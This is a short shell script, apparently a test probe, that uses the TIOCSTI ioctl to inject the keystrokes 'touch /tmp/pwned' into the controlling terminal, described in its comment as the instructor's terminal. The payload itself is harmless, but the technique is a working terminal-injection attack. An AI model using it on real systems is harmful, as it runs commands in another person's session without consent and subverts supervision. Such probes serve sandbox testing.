#!/bin/sh
# Types a command into the instructor's terminal (TIOCSTI), or writes to it.
python3 -c '
import fcntl, termios
try:
    with open("/dev/tty", "w") as tty:
        for c in "touch /tmp/pwned\n":
            fcntl.ioctl(tty, termios.TIOCSTI, c)
    print("TYPED")
except OSError as error:
    print("X 2 3")
' "$TOKEN"
